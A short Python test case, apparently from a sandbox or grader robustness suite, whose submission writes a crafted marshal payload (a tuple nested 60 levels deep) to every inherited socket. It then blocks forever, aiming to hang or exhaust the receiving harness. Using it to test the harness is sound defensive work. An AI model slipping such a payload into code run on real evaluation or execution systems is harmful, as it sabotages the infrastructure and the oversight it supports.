# A key that holds itself 2 ** 60 times over: to read it means to hash it, which takes for ever.
# kind: function
# expect: timeout, failed, memory
# wall: 3
import marshal
import os
import stat


def solve(n):
    value = ("ha",)
    for _ in range(60):
        value = (value, value)
    body = b")\x02z\x05value{" + marshal.dumps(value, 4) + b"N0"
    for fd in range(64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, len(body).to_bytes(4, "big") + body)
        except OSError:
            pass
    while True:
        os.read(os.pipe()[0], 1)
